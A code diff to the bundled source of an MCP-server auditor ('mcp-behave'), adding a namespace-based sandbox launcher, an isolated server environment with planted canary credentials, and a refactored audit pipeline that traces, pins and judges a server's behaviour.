+            { dir: homeView.upper, shownAt: home, lower: homeView.lower },
+            ...privateDirs.map((mount) => ({
+                dir: mount.source,
+                shownAt: mount.path,
+                mountPoints: mountPointsUnder(mount.path, [...workspaceRoots, ...plan.exposed, ...hidden])
+            }))
+        ],
+        masked: views.flatMap((view) => view.masked.map((relativePath) => external_node_path_.posix.join(view.lower, relativePath)))
+    };
+}
+
+;// CONCATENATED MODULE: ./src/sandbox/launcher.ts
+
+
+
+
+const NAMESPACE_FLAGS = ['--pid', '--fork', '--kill-child', '--mount-proc', '--propagation', 'private'];
+function unshareFlags(method, network) {
+    const flags = [...(network === 'sandbox' ? ['--net'] : []), ...NAMESPACE_FLAGS];
+    return method === 'userns' || method === 'sudo' ? ['--user', '--map-root-user', ...flags] : flags;
+}
+/**
+ * The command that starts the sandbox init inside fresh namespaces: a pid namespace (when its first
+ * process exits, the kernel kills every process the server left, double-forked daemons included), a
+ * mount namespace, and for network=sandbox a network namespace with nothing but loopback.
+ */
+function buildLaunchCommand(method, network, init, caller) {
+    // The init's config comes on its stdin (init-handoff.ts): only the network mode is on the command line.
+    const initArgv = [init.node, init.script, network];
+    switch (method) {
+        case 'root':
+        case 'userns':
+            return { command: 'unshare', args: [...unshareFlags(method, network), '--', ...initArgv] };
+        case 'sudo':
+            // sudo only lends the privilege to create the namespaces (where unprivileged user namespaces are
+            // restricted, as on Ubuntu 24.04): setpriv goes back to the caller's uid keeping CAP_SYS_ADMIN
+            // for the unshare alone, whose user namespace maps its root to the caller. Everything inside —
+            // the init, the sink, strace, the server — is the caller outside, and files it creates are the
+            // caller's; the capability does not survive into the namespace.
+            return {
+                command: 'sudo',
+                args: [
+                    '-n',
+                    '--',
+                    'setpriv',
+                    `--reuid=${caller.uid}`,
+                    `--regid=${caller.gid}`,
+                    '--init-groups',
+                    '--inh-caps=+sys_admin',
+                    '--ambient-caps=+sys_admin',
+                    '--',
+                    'unshare',
+                    ...unshareFlags(method, network),
+                    '--',
+                    ...initArgv
+                ]
+            };
+        case 'none':
+            return { command: init.node, args: [init.script, network] };
+    }
+}
+function works(command, args) {
+    const result = (0,external_node_child_process_namespaceObject.spawnSync)(command, args, { stdio: 'ignore', timeout: 10_000 });
+    return !result.error && result.status === 0;
+}
+const SANDBOX_HINT = 'The network sandbox needs a user+network namespace (unshare -rn), root, or passwordless sudo, and iproute2. ' +
+    'In a container, run with --cap-add=SYS_ADMIN or --privileged; on Ubuntu 24.04 unprivileged user namespaces ' +
+    'may be restricted by AppArmor (sysctl kernel.apparmor_restrict_unprivileged_userns=0) — or use sudo. ' +
+    'Pass --network host to observe real traffic instead (the server then reaches the real network).';
+/**
+ * Picks how to build the namespaces on this machine by trying each way once. For network=sandbox it
+ * never falls back to host networking: no way → SandboxSetupError (exit 2). For network=host, 'none'
+ * (no namespaces, best-effort process cleanup) is acceptable.
+ */
+function detectSandboxMethod(network, caller, forced, path) {
+    // For testing one way on a machine where an earlier one would win (e.g. sudo where userns works).
+    if (forced) {
+        if (!model/* SANDBOX_METHODS */.B2.includes(forced) || (forced === 'none' && network === 'sandbox')) {
+            throw new errors/* SandboxSetupError */.Pr(`MCP_BEHAVE_SANDBOX_METHOD=${forced} is not usable with --network ${network}`, 'Use root, userns or sudo (none only with --network host).');
+        }
+        return forced;
+    }
+    // Probed once per process (a fleet's audits share the answer, and the event loop the probes would block).
+    const key = JSON.stringify([network, caller, path]);
+    const known = probedMethods.get(key);
+    if (known)
+        return known;
+    const method = probeSandboxMethod(network, caller, path);
+    probedMethods.set(key, method);
+    return method;
+}
+const probedMethods = new Map();
+function probeSandboxMethod(network, caller, path) {
+    const probe = (method) => {
+        const { command, args } = buildLaunchCommand(method, network, { node: 'true', script: '' }, caller);
+        return works(command, args.slice(0, args.lastIndexOf('--') + 1).concat('true'));
+    };
+    if (!findOnPath('unshare', path)) {
+        if (network === 'host')
+            return 'none';
+        throw new errors/* SandboxSetupError */.Pr('unshare (util-linux) was not found.', SANDBOX_HINT);
+    }
+    if (network === 'sandbox' && !findOnPath('ip', path)) {
+        throw new errors/* SandboxSetupError */.Pr('ip (iproute2) was not found; it is needed to build the network sandbox.', 'Install it: sudo apt-get install -y iproute2');
+    }
+    if (caller.uid === 0 && probe('root'))
+        return 'root';
+    if (caller.uid !== 0 && probe('userns'))
+        return 'userns';
+    if (caller.uid !== 0 && works('sudo', ['-n', 'true']) && probe('sudo'))
+        return 'sudo';
+    if (network === 'host')
+        return 'none';
+    throw new errors/* SandboxSetupError */.Pr('Could not create a network namespace for the server on this machine.', SANDBOX_HINT);
+}
+
+;// CONCATENATED MODULE: ./src/sandbox/server-env.ts
+// The audited server gets a built environment, never the caller's. In CI the caller's environment holds
+// GITHUB_TOKEN, ACTIONS_RUNTIME_TOKEN, INPUT_* (which can carry secrets) and RUNNER_* paths: handing them
+// to the code under audit would give it real credentials to steal. Of the caller's variables only PATH
+// (when the sandbox does not supply one), LANG and LC_ALL are read. Merged in this order, a later layer
+// winning over an earlier one:
+// 1. the fixed base: HOME, USER, LOGNAME, PATH (the sandbox's `path`, else the caller's, else DEFAULT_PATH),
+//    the locale, TERM, TMPDIR, the XDG directories, and switches that keep file I/O traceable and tools quiet;
+// 2. `trustEnv`: the variables that make TLS clients trust the run's authority;
+// 3. `canaryEnv`: the planted fake credentials;
+// 4. `userEnv`: the variables the user passed explicitly.
+const DEFAULT_PATH = '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin';
+const DEFAULT_LOCALE = 'C.UTF-8';
+const LOCALE_NAME = /^[A-Za-z0-9_.@-]+$/;
+function localeOr(value, fallback) {
+    return value !== undefined && LOCALE_NAME.test(value) ? value : fallback;
+}
+function buildServerEnvironment({ home, user, path, trustEnv, canaryEnv, userEnv, callerEnv }) {
+    const callerPath = path ?? callerEnv.PATH;
+    const lang = localeOr(callerEnv.LANG, DEFAULT_LOCALE);
+    return {
+        HOME: home,
+        USER: user,
+        LOGNAME: user,
+        PATH: callerPath !== undefined && callerPath !== '' ? callerPath : DEFAULT_PATH,
+        LANG: lang,
+        LC_ALL: localeOr(callerEnv.LC_ALL, lang),
+        TERM: 'dumb',
+        TMPDIR: '/tmp',
+        XDG_CONFIG_HOME: `${home}/.config`,
+        XDG_CACHE_HOME: `${home}/.cache`,
+        XDG_DATA_HOME: `${home}/.local/share`,
+        XDG_STATE_HOME: `${home}/.local/state`,
+        // libuv (Node >= 20.3) may do file I/O through io_uring, where reads happen with no openat and the
+        // trace shows only io_uring_setup. Turning it off keeps every file the server opens visible.
+        UV_USE_IO_URING: '0',
+        PYTHONDONTWRITEBYTECODE: '1',
+        NO_UPDATE_NOTIFIER: '1',
+        NPM_CONFIG_UPDATE_NOTIFIER: 'false',
+        ...trustEnv,
+        ...canaryEnv,
+        ...userEnv
+    };
+}
+
+;// CONCATENATED MODULE: ./src/engine/start-sandbox.ts
+// The sandbox stage of an audit: which sandbox this machine can make (chooseSandbox), then the run
+// directory filled and the sandbox init started with its config (startSandbox): the canary home, the
+// run's TLS trust, the workspace seed, the filesystem view, the server's environment. What it returns is
+// what the later stages read: where the init writes, the home as the server sees it, the canaries.
 
 
 
@@ -40731,62 +42043,8 @@ async function runtimeRoots(executable) {
 const INDEX_BUILD_DELAY_MS = 10;
 // Starting under strace is slower than a plain start; initialize gets twice the per-call timeout.
 const INITIALIZE_TIMEOUT_FLOOR_MS = 5_000;
-/** Run directories of audits in progress: canary secrets and the server's scratch layers. */
-const activeRunDirs = new Set();
-/** For an exit that cannot wait for the audit to finish (a second Ctrl-C): leave no run directory behind. */
-function removeRunDirsNow() {
-    for (const dir of activeRunDirs)
-        (0,external_node_fs_.rmSync)(dir, { recursive: true, force: true });
-    activeRunDirs.clear();
-}
-async function removeRunDir(runDir) {
-    await (0,promises_.rm)(runDir, { recursive: true, force: true }).catch(() => undefined);
-    activeRunDirs.delete(runDir);
-}
-async function addReverseDns(observed, logger) {
-    for (const entry of observed.network.filter((n) => !n.loopback && n.family !== 'unix').slice(0, 20)) {
-        try {
-            entry.reverseDns = await Promise.race([
-                (0,external_node_dns_promises_namespaceObject.reverse)(entry.address),
-                new Promise((_, reject) => setTimeout(() => reject(new Error('timeout')), 2_000))
-            ]);
-        }
-        catch {
-            logger.debug(`no reverse DNS for ${entry.address}`);
-        }
-    }
-}
-async function runAudit(settings, runtime) {
-    const { logger } = runtime;
-    logger.debug(`settings: ${describeSettings(settings)}`);
-    if (settings.command.length === 0 && settings.http?.url)
-        return runRemoteAudit({ ...settings, http: settings.http }, settings.http.url, runtime);
-    const started = Date.now();
-    const [program] = settings.command;
-    if (!program)
-        throw new errors/* ConfigurationError */.j1('no server command given');
-    if (!(0,external_node_path_.isAbsolute)(settings.cwd))
-        throw new errors/* ConfigurationError */.j1(`working directory must be absolute: ${settings.cwd}`);
-    try {
-        if (!(await (0,promises_.stat)(settings.cwd)).isDirectory())
-            throw new Error('not a directory');
-    }
-    catch {
-        throw new errors/* ConfigurationError */.j1(`working directory not found: ${settings.cwd}`);
-    }
-    const executable = await resolveExecutable(program, settings.cwd, runtime.host.env.PATH ?? '');
-    const scenario = settings.scenarioPath !== null ? await loadScenario(settings.scenarioPath) : null;
-    await (0,output_files/* prepareOutDir */.fW)(settings.outDir);
-    const files = {
-        trace: (0,external_node_path_.join)(settings.outDir, 'trace.log'),
-        manifest: (0,external_node_path_.join)(settings.outDir, 'manifest.json'),
-        report: (0,external_node_path_.join)(settings.outDir, 'report.json')
-    };
-    // Refused now rather than after the audit; checked again when each file is written.
-    for (const path of [files.manifest, files.report])
-        await (0,output_files/* refuseNonRegular */.uA)(path);
-    const traceFile = await (0,output_files/* createEmptyOutputFile */.F_)(files.trace);
-    const { host } = runtime;
+/** The tracer and the way to make namespaces here; refused when --fs sandbox cannot be honoured. */
+function chooseSandbox(settings, host, logger) {
     const searchPath = host.env.PATH ?? '';
     const strace = detectStrace(searchPath);
     const method = detectSandboxMethod(settings.network, host.caller, host.forcedSandboxMethod, searchPath);
@@ -40799,323 +42057,247 @@ async function runAudit(settings, runtime) {
         }
     }
     logger.info(`sandbox: network=${settings.network}, fs=${settings.fs} via ${method}; strace ${strace.seccompBpf ? 'with' : 'without'} seccomp-bpf`);
+    return { strace, method };
+}
+/** Fills the run directory and hands the init its config; a setup that fails leaves no init waiting. */
+async function startSandbox(start, runtime) {
+    const { settings } = start;
+    const { host } = runtime;
+    // The sandbox init is started now, before the setup below: its own start (a Node process) and the
+    // network sandbox are made while the home, views and trust are; it waits on its stdin for the config.
+    const launcher = new launcher_process_LauncherProcess(buildLaunchCommand(start.choice.method, settings.network, { node: host.node, script: runtime.sandboxInitPath }, host.caller), launcher_process_launcherEnvironment(host.env.PATH ?? '/usr/local/bin:/usr/bin:/bin'));
+    let prepared;
+    try {
+        prepared = await prepareAndSend(start, runtime, launcher);
+    }
+    catch (error) {
+        // Called off during the setup: the init never got its config and is waiting for it.
+        await launcher.cancel();
+        throw error;
+    }
+    // The canary index is built while the sandbox starts the server, when this thread only waits for its
+    // first answer, not after the server exits, where it would lengthen every audit.
+    const { indexed, ...sandbox } = prepared;
+    const canaryIndex = new CanaryIndex(indexed, sandbox.home.files);
+    setTimeout(() => canaryIndex.prepare(), INDEX_BUILD_DELAY_MS).unref();
+    return { ...sandbox, canaryIndex };
+}
+async function prepareAndSend(start, runtime, launcher) {
+    const { settings, runDir, target } = start;
+    const { host } = runtime;
+    // Everything the sandbox runs is the caller outside its namespaces (under sudo too): nobody else needs
+    // to read the run directory, which holds the canaries and the run's TLS authority.
+    await (0,promises_.chmod)(runDir, 0o700);
+    const contained = settings.fs === 'sandbox';
+    // The workspace seed is shown in the copy-on-write view only: with --fs host it would land in the real directory.
+    const seed = contained ? (0,external_node_path_.join)(runDir, 'seed') : null;
+    // Independent, so made together: the home, the trust (with the network sandbox the sink opens HTTPS
+    // with a CA made for this run, trusted by the server only), the seed git writes, and the view, which
+    // takes the seed and the trust bundle last, once they are made.
+    const plantedHome = (0,external_node_path_.join)(runDir, contained ? 'home-base' : 'home');
+    const made = (0,settle_all/* settleAll */.j)([
+        (0,canary_home/* plantCanaryHome */.pk)(settings.homeTemplate, plantedHome),
+        settings.network === 'sandbox' ? prepareRunTrust(runDir, contained, runtime.authorities ?? null) : null,
+        seed ? writeSeed(seed, settings.cwd, host.env) : null
+    ]);
+    const workspaceCanaries = [];
+    const [[home, trust], containment] = await (0,settle_all/* settleAll */.j)([
+        made,
+        contained
+            ? prepareContainment({
+                runDir,
+                plantedHome,
+                cwd: settings.cwd,
+                workspaces: settings.workspaces,
+                argv: target.argv,
+                outDir: (0,external_node_path_.resolve)(settings.outDir),
+                stateDir: (0,external_node_path_.resolve)(settings.stateDir),
+                callerEnv: host.env,
+                canaries: workspaceCanaries,
+                ...(settings.launch ? { readOnly: [settings.launch.root] } : {})
+            }, async () => {
+                const [, runTrust] = await made;
+                return { ...(seed ? { seed } : {}), ...(runTrust ? { maskedFiles: [runTrust.bundle] } : {}) };
+            })
+            : null
+    ]);
+    const canaryEnv = (0,canary_home/* canaryEnvironment */.cu)();
+    const homePath = containment ? containment.home : await (0,promises_.realpath)(home.home);
+    const persona = containment?.identity ?? pickIdentity();
+    const serverEnv = buildServerEnvironment({
+        home: homePath,
+        user: persona.user,
+        ...(containment ? { path: containment.path } : {}),
+        ...(trust ? { trustEnv: trust.env } : {}),
+        canaryEnv: canaryEnv.env,
+        userEnv: settings.env,
+        callerEnv: host.env
+    });
+    const paths = {
+        status: (0,external_node_path_.join)(runDir, 'status.jsonl'),
+        sinkLog: settings.network === 'sandbox' ? (0,external_node_path_.join)(runDir, 'sink.jsonl') : null,
+        canaryWatchLog: (0,external_node_path_.join)(runDir, 'canary-watch.jsonl'),
+        relaySocket: (0,external_node_path_.join)(runDir, 'relay.sock')
+    };
+    const initializeTimeoutMs = Math.max(2 * settings.timeoutMs, INITIALIZE_TIMEOUT_FLOOR_MS);
+    const http = settings.http ?? null;
+    // The home as the init sees it: the overlay it mounts (contained), or the planted home itself.
+    const watchedHome = containment ? containment.overlays.find((overlay) => overlay.lower === home.home)?.merged : home.home;
+    const initConfig = {
+        network: settings.network,
+        nestedUser: start.choice.method === 'userns' || start.choice.method === 'sudo' ? host.caller : null,
+        statusPath: paths.status,
+        containment: containment ? { bwrap: containment.bwrap, bwrapArgs: containment.bwrapArgs, overlays: containment.overlays } : null,
+        sinkLog: paths.sinkLog,
+        canaryWatch: watchedHome ? { root: watchedHome, log: paths.canaryWatchLog } : null,
+        tlsAuthority: trust?.authorityPath ?? null,
+        captureBytes: settings.captureBytes,
+        httpReply: await loadHttpReply(settings.httpReply),
+        httpRelay: http ? { socketPath: paths.relaySocket, port: httpPort(http), waitMs: initializeTimeoutMs } : null,
+        strace: start.choice.strace.path,
+        straceArgs: buildStraceArgs(start.tracePath, start.choice.strace),
+        server: { argv: target.argv, env: serverEnv, cwd: settings.cwd }
+    };
+    for (const log of [paths.status, paths.sinkLog, paths.canaryWatchLog])
+        if (log)
+            await (0,promises_.writeFile)(log, '', { mode: 0o600 });
+    launcher.sendConfig(initConfig);
+    return {
+        launcher,
+        paths,
+        home,
+        homePath,
+        containment,
+        seed,
+        canaries: [...home.canaries, ...canaryEnv.canaries],
+        indexed: [...home.canaries, ...canaryEnv.canaries, ...workspaceCanaries, ...(settings.configCanaries ?? [])],
+        initializeTimeoutMs
+    };
+}
+
+;// CONCATENATED MODULE: ./src/engine/run-audit.ts
+// The audit pipeline, read top to bottom: settings → sandbox → probe → trace and profile → manifest and
+// pin → baseline → rules and verdict → report. Each stage is one named call taking and returning plain
+// data: the sandbox and probe stages here in engine/ (start-sandbox.ts, probe-in-sandbox.ts), because
+// they compose side effects of several stages; trace → profile in profile-run.ts; the rest in its
+// stage's folder. What stays here is the order, and the run directory's lifetime (one try/finally).
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+async function runAudit(settings, runtime) {
+    const { logger, host } = runtime;
+    logger.debug(`settings: ${describeSettings(settings)}`);
+    if (settings.command.length === 0 && settings.http?.url)
+        return runRemoteAudit({ ...settings, http: settings.http }, settings.http.url, runtime);
+    const startedAt = Date.now();
+    const target = await resolveTarget(settings, host.env.PATH ?? '');
+    const { files, trace } = await prepareOutputs(settings.outDir);
+    const choice = chooseSandbox(settings, host, logger);
     // A neutral name: the server can see the run directory's path in its mount table.
     const runDir = await (0,promises_.mkdtemp)((0,external_node_path_.join)(host.tmpDir, 'tmp.'));
     activeRunDirs.add(runDir);
     let removal = null;
-    const { caller } = host;
-    let launcher = null;
-    let configSent = false;
     try {
-        // The sandbox init is started now, before the setup below: its own start (a Node process) and the
-        // network sandbox are made while the home, views and trust are; it waits on its stdin for the config.
-        launcher = new launcher_process_LauncherProcess(buildLaunchCommand(method, settings.network, { node: host.node, script: runtime.sandboxInitPath }, caller), launcher_process_launcherEnvironment(host.env.PATH ?? '/usr/local/bin:/usr/bin:/bin'));
-        // Everything the sandbox runs is the caller outside its namespaces (under sudo too): nobody else needs
-        // to read the run directory, which holds the canaries and the run's TLS authority.
-        await (0,promises_.chmod)(runDir, 0o700);
-        const contained = settings.fs === 'sandbox';
-        // The workspace seed is shown in the copy-on-write view only: with --fs host it would land in the real directory.
-        const seed = contained ? (0,external_node_path_.join)(runDir, 'seed') : null;
-        // Independent, so made together: the home, the trust (with the network sandbox the sink opens HTTPS
-        // with a CA made for this run, trusted by the server only), the seed git writes, and the view, which
-        // takes the seed and the trust bundle last, once they are made.
-        const plantedHome = (0,external_node_path_.join)(runDir, contained ? 'home-base' : 'home');
-        const made = (0,settle_all/* settleAll */.j)([
-            (0,canary_home/* plantCanaryHome */.pk)(settings.homeTemplate, plantedHome),
-            settings.network === 'sandbox' ? prepareRunTrust(runDir, contained, runtime.authorities ?? null) : null,
-            seed ? writeSeed(seed, settings.cwd, runtime.host.env) : null
-        ]);
-        const workspaceCanaries = [];
-        const [[home, trust], containment] = await (0,settle_all/* settleAll */.j)([
-            made,
-            contained
-                ? prepareContainment({
-                    runDir,
-                    plantedHome,
-                    cwd: settings.cwd,
-                    workspaces: settings.workspaces,
-                    argv: [executable, ...settings.command.slice(1)],
-                    outDir: (0,external_node_path_.resolve)(settings.outDir),
-                    stateDir: (0,external_node_path_.resolve)(settings.stateDir),
-                    callerEnv: runtime.host.env,
-                    canaries: workspaceCanaries,
-                    ...(settings.launch ? { readOnly: [settings.launch.root] } : {})
-                }, async () => {
-                    const [, runTrust] = await made;
-                    return { ...(seed ? { seed } : {}), ...(runTrust ? { maskedFiles: [runTrust.bundle] } : {}) };
-                })
-                : null
-        ]);
-        const canaryEnv = (0,canary_home/* canaryEnvironment */.cu)();
-        const homePath = containment ? containment.home : await (0,promises_.realpath)(home.home);
-        const persona = containment?.identity ?? pickIdentity();
-        const serverEnv = buildServerEnvironment({
-            home: homePath,
-            user: persona.user,
-            ...(containment ? { path: containment.path } : {}),
-            ...(trust ? { trustEnv: trust.env } : {}),
-            canaryEnv: canaryEnv.env,
-            userEnv: settings.env,
-            callerEnv: runtime.host.env
-        });
-        const statusPath = (0,external_node_path_.join)(runDir, 'status.jsonl');
-        const sinkLog = settings.network === 'sandbox' ? (0,external_node_path_.join)(runDir, 'sink.jsonl') : null;
-        const initializeTimeoutMs = Math.max(2 * settings.timeoutMs, INITIALIZE_TIMEOUT_FLOOR_MS);
-        const http = settings.http ?? null;
-        const relaySocket = (0,external_node_path_.join)(runDir, 'relay.sock');
-        const canaryWatchLog = (0,external_node_path_.join)(runDir, 'canary-watch.jsonl');
-        // The home as the init sees it: the overlay it mounts (contained), or the planted home itself.
-        const watchedHome = containment ? containment.overlays.find((overlay) => overlay.lower === home.home)?.merged : home.home;
-        const initConfig = {
-            network: settings.network,
-            nestedUser: method === 'userns' || method === 'sudo' ? caller : null,
-            statusPath,
-            containment: containment ? { bwrap: containment.bwrap, bwrapArgs: containment.bwrapArgs, overlays: containment.overlays } : null,
-            sinkLog,
-            canaryWatch: watchedHome ? { root: watchedHome, log: canaryWatchLog } : null,
-            tlsAuthority: trust?.authorityPath ?? null,
-            captureBytes: settings.captureBytes,
-            httpReply: await loadHttpReply(settings.httpReply),
-            httpRelay: http ? { socketPath: relaySocket, port: httpPort(http), waitMs: initializeTimeoutMs } : null,
-            strace: strace.path,
-            straceArgs: buildStraceArgs(files.trace, strace),
-            server: { argv: [executable, ...settings.command.slice(1)], env: serverEnv, cwd: settings.cwd }
-        };
-        await (0,promises_.writeFile)(statusPath, '', { mode: 0o600 });
-        if (sinkLog)
-            await (0,promises_.writeFile)(sinkLog, '', { mode: 0o600 });
-        await (0,promises_.writeFile)(canaryWatchLog, '', { mode: 0o600 });
-        launcher.sendConfig(initConfig);
-        configSent = true;
-        // The canary index is built while the sandbox starts the server, when this thread only waits for its
-        // first answer, not after the server exits, where it would lengthen every audit.
-        const canaryIndex = new CanaryIndex([...home.canaries, ...canaryEnv.canaries, ...workspaceCanaries, ...(settings.configCanaries ?? [])], home.files);
-        setTimeout(() => canaryIndex.prepare(), INDEX_BUILD_DELAY_MS).unref();
-        let probe;
-        let incomplete;
-        try {
-            probe = await probeServer({
-                transport: http
-                    ? sandboxedHttp(launcher, {
-                        endpoint: { flavour: http.flavour, url: http.url === null ? null : new URL(http.url) },
-                        relaySocket,
-                        statusPath,
-                        // The init's own verdict (it watches the server's sockets) comes first.
-                        listenTimeoutMs: initializeTimeoutMs + 2_000
-                    })
-                    : sandboxedStdio(launcher),
-                rootDir: settings.cwd,
-                workspace: seed ? { root: settings.cwd, ...seedListing() } : null,
-                scenario: scenario
-                    ? {
-                        steps: resolveSteps(scenario, { workdir: settings.cwd, home: homePath, canaries: [...home.canaries, ...canaryEnv.canaries] }),
-                        synthesize: scenario.synthesize
-                    }
-                    : null,
-                timeoutMs: settings.timeoutMs,
-                initializeTimeoutMs,
-                callsPerTool: settings.callsPerTool,
-                logger,
-                ...(runtime.signal ? { signal: runtime.signal } : {})
-            });
-        }
-        catch (error) {
-            if (error instanceof ProbeAborted) {
-                probe = error.partial;
-                incomplete = 'interrupted before the audit finished';
-            }
-            else if (error instanceof errors/* ProbeStartError */.d9) {
-                throw await explainStartFailure(error, statusPath, settings);
-            }
-            else {
-                throw error;
-            }
-        }
-        if (!probe.shutdownAt)
-            probe.shutdownAt = Date.now();
-        const [status, sinkSeen, changes, canaryWatchSeen] = await (0,settle_all/* settleAll */.j)([
-            readStatus(statusPath),
-            sinkLog ? readSinkLog(sinkLog) : null,
-            containment ? scanChanges(containment.changeAreas) : null,
-            readCanaryWatchLog(canaryWatchLog)
-        ]);
-        const descriptors = descriptorsFromStatus(status);
-        for (const entry of status) {
-            if (entry.event === 'warning' && entry.message)
-                logger.debug(entry.message);
-        }
-        const tracerStop = tracerStoppedEarly(status, probe.shutdownAt);
-        if (tracerStop && !incomplete) {
-            incomplete = tracerStop;
-            logger.warn(`audit incomplete: ${tracerStop}`);
-        }
-        const networkLog = (0,external_node_path_.join)(settings.outDir, 'network.jsonl');
-        const changesArchive = changes?.changes.some((change) => change.kind === 'file' && change.change !== 'deleted') ? 'changes.tar' : undefined;
-        await (0,settle_all/* settleAll */.j)([
-            // With --network host there is no sink: no network.jsonl, not even one left by an earlier run.
-            sinkSeen ? (0,output_files/* writeOutputFile */.BF)(networkLog, sinkSeen.text) : (0,promises_.rm)(networkLog, { force: true }).catch(() => undefined),
-            changes && changesArchive
-                ? (0,promises_.rm)((0,external_node_path_.join)(settings.outDir, changesArchive), { force: true }).then(() => writeChangesTar(changes, (0,external_node_path_.join)(settings.outDir, changesArchive)))
-                : null
-        ]);
+        const sandbox = await startSandbox({ settings, target, choice, runDir, tracePath: files.trace }, runtime);
+        const session = await probeInSandbox(settings, target, sandbox, runtime);
+        const evidence = await collectEvidence(sandbox, session, settings.outDir, logger);
         // Nothing more is read from the run directory: it is removed while the trace is parsed.
         removal = removeRunDir(runDir);
+        const { probe } = session;
+        const { incomplete } = evidence;
+        const { identity, stateDir, cwd } = settings;
+        const { homePath: home, containment } = sandbox;
         const manifest = buildManifest(probe.listing, probe.instructions);
         await (0,output_files/* writeOutputFile */.BF)(files.manifest, JSON.stringify(manifest, null, 2) + '\n');
-        const { identity } = settings;
-        const pin = incomplete ? null : await compareWithPin(new PinStore(settings.stateDir), identity, manifest, settings.acceptManifest);
-        if (pin?.error)
-            logger.warn(`manifest pin: ${pin.error}`);
-        const rugPull = {
-            ...(pin?.rugPull ?? { status: 'new', identity, currentSha256: manifest.sha256, changes: [] }),
-            duringSession: sessionChanges(probe.listing, probe.relisting)
-        };
-        const installWatch = settings.launch?.installPhase ? new InstallPhaseWatch() : null;
-        const builder = new ProfileBuilder({
-            calls: probe.calls,
-            shutdownAt: probe.shutdownAt,
-            home: homePath,
-            cwd: settings.cwd,
-            canaries: canaryIndex.tokens,
-            canaryFiles: canaryIndex.files,
-            canaryIndex,
-            serverCodeRoots: [...(await serverCodeRoots(settings.command, settings.cwd)), ...(settings.launch ? [settings.launch.root] : [])],
-            runtimeRoots: await runtimeRoots(executable),
-            ...(containment ? { hiddenRoots: containment.hiddenRoots, auditorPaths: containment.auditorPaths } : {}),
-            ...(installWatch ? { installEndsAt: installWatch.endsAt } : {}),
-            ...(runtime.workersDir ? { canaryWorkerPath: (0,external_node_path_.join)(runtime.workersDir, 'canary-worker', 'index.js') } : {})
-        });
-        const sourcePorts = new TracedSourcePorts(new PhaseClock(probe.calls, probe.shutdownAt, installWatch?.endsAt));
-        // bwrap's own setup (before it execs the server) is the sandbox's doing, not the server's.
-        const setup = new SandboxSetupFilter(containment !== null);
-        const listening = http ? listeningOn(status) : null;
-        const channel = listening ? new McpHttpChannelFilter(listening.port) : null;
-        let stats;
-        await (0,output_files/* assertSameFile */.Lw)(files.trace, traceFile);
-        try {
-            stats = await readTrace(files.trace, (event) => {
-                if (!setup.keep(event) || !(channel?.keep(event) ?? true))
-                    return;
-                installWatch?.see(event);
-                sourcePorts.see(event);
-                builder.add(event);
-            });
-            await builder.settle();
-            const { scannedBytes, workerBytes } = builder.canaryScanStats;
-            logger.debug(`canary matching: ${(scannedBytes / 1048576).toFixed(1)} MB of payload, ${(workerBytes / 1048576).toFixed(1)} MB of it on a second thread`);
-        }
-        catch (error) {
-            throw new errors/* ServerProtocolError */.Gs(`trace.log could not be read: ${error instanceof Error ? error.message : String(error)}`);
-        }
-        finally {
-            builder.close();
-        }
-        const observed = builder.finish(stats);
-        const witnesses = witnessesFromStatus(status);
-        if (witnesses.length > 0)
-            observed.witnesses = witnesses;
-        for (const unavailable of witnesses.filter((seen) => seen.state === 'unavailable'))
-            logger.warn(`witness ${unavailable.name} unavailable: ${unavailable.detail}`);
-        // The kernel's witness of canary reads, before the sink's matching: a file read only through io_uring
-        // still makes its pieces count.
-        observed.files.push(...witnessOnlyReads(observed, canaryWatchSeen, home.files, homePath, probe.calls, probe.shutdownAt, installWatch?.endsAt));
-        // The sink's own witness: what it received, past the trace's 4096 bytes per syscall and inside TLS.
-        if (sinkSeen)
-            addSinkWitness(observed, sinkSeen, sourcePorts, builder.canaryIndex);
-        if (changes) {
-            observed.fileChanges = changes.changes;
-            if (changes.truncated)
-                observed.fileChangesTruncated = true;
-        }
-        if (settings.network === 'host' && settings.reverseDns)
-            await addReverseDns(observed, logger);
+        const pinned = { stateDir, identity, manifest, accept: settings.acceptManifest, complete: !incomplete };
+        const { rugPull, pinError } = await rugPullOf({ ...pinned, listing: probe.listing, relisting: probe.relisting });
+        if (pinError)
+            logger.warn(`manifest pin: ${pinError}`);
+        const observed = await profileRun({ settings, target, sandbox, session, evidence, trace }, runtime);
         // An audit that did not see the whole session is no baseline: it is neither compared nor stored.
-        const behaviour = incomplete
-            ? undefined
-            : await compareRunWithBaseline({
-                observed,
-                sinkPayloads: sinkSeen?.payloads.filter((payload) => payload.via === 'socket') ?? [],
-                calls: probe.calls,
-                shutdownAt: probe.shutdownAt,
-                home: homePath,
-                cwd: settings.cwd,
-                ...(containment ? { machineName: containment.identity.hostname } : {}),
-                identity,
-                stateDir: settings.stateDir,
-                baselinePath: settings.baselinePath,
-                accept: settings.acceptBaseline
-            });
+        const behaviour = incomplete ? undefined : await compareRunWithBaseline(baselineInput(settings, sandbox, session, evidence, observed));
         if (behaviour?.error)
             logger.warn(`behaviour baseline: ${behaviour.error}`);
-        // Items that appeared only at the re-listing are the surface-change rule's (rules/rug-pull-rules.ts):
-        // the session was not owed calls to what did not exist when it began.
-        const coverage = coverageOf({ ...probe, relisting: null }, settings.minCoverage);
-        const findings = [
-            ...evaluateRules({
-                observed,
-                manifest,
-                calls: probe.calls,
-                policy: settings.policy,
-                rugPull,
-                ...(behaviour ? { behaviour } : {}),
-                home: homePath,
-                cwd: settings.cwd,
-                ...(containment ? { writableRoots: containment.writableRoots, auditorPaths: containment.auditorPaths } : {})
-            }),
-            ...coverageFindings(coverage)
-        ];
-        nameSteps(findings, probe.calls);
-        const { exitCode } = (0,report_verdict/* decideVerdict */.AU)({
-            findings,
+        const rules = { observed, manifest, policy: settings.policy, rugPull, home, cwd, ...(behaviour ? { behaviour } : {}), ...(probe.textHits ? { resultText: probe.textHits } : {}) };
+        const judged = judgeRun({
+            rules: { ...rules, ...(containment ? { writableRoots: containment.writableRoots, auditorPaths: containment.auditorPaths } : {}) },
+            probe,
+            minCoverage: settings.minCoverage,
             failOn: settings.failOn,
-            incomplete: incomplete ?? null,
-            interrupted: runtime.signal?.aborted === true,
-            coverage: coverage.totals ? { percent: coverage.totals.percent, minPercent: settings.minCoverage } : null
+            incomplete,
+            interrupted: runtime.signal?.aborted === true
         });
-        const report = {
-            schemaVersion: 1,
-            auditor: { name: 'mcp-behave', version: version/* AUDITOR_VERSION */.w },
-            server: {
-                command: settings.command,
